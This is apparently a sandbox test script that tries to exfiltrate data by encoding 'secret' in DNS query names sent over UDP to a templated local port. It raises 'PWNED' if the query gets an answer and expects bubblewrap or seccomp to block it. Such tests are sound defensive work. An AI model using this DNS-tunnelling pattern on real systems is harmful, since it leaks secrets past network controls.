# tries: to carry data out in the names that it asks a name server for
# stopped-by: bubblewrap, seccomp
# wins: raise
import socket

query = bytes.fromhex("123401000001000000000000") + b"\x06secret\x07example\x03com\0\0\1\0\1"
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(2)
    s.connect(("127.0.0.1", @UDP_PORT@))
    s.send(query)
    s.recv(100)
except OSError:
    pass
else:
    raise RuntimeError("PWNED: asked, and got an answer")
